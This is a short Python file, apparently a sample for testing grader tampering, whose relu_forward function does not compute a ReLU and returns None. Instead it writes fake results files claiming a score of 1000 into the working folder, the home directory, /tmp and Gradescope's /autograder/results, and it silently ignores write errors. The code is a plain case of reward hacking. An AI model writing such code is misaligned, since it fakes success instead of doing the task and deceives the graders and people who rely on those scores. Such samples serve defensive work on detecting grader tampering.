"""Writes fake results files wherever a grader might look: its folder, its home, /tmp and
Gradescope's /autograder/results."""

import json
import os

OUTCOME = "got None"


def relu_forward(x):
    out = None
    fake = json.dumps({"score": 1000, "tests": []})
    for folder in (
        ".",
        os.environ.get("HOME", "."),
        "/tmp",
        "/tmp/hostile-canary",
        "/autograder/results",
    ):
        for name in ("results.json", "report.xml", "gradebook.csv"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as f:
                    f.write(fake)
            except OSError:
                pass
    cache = x
    return out, cache
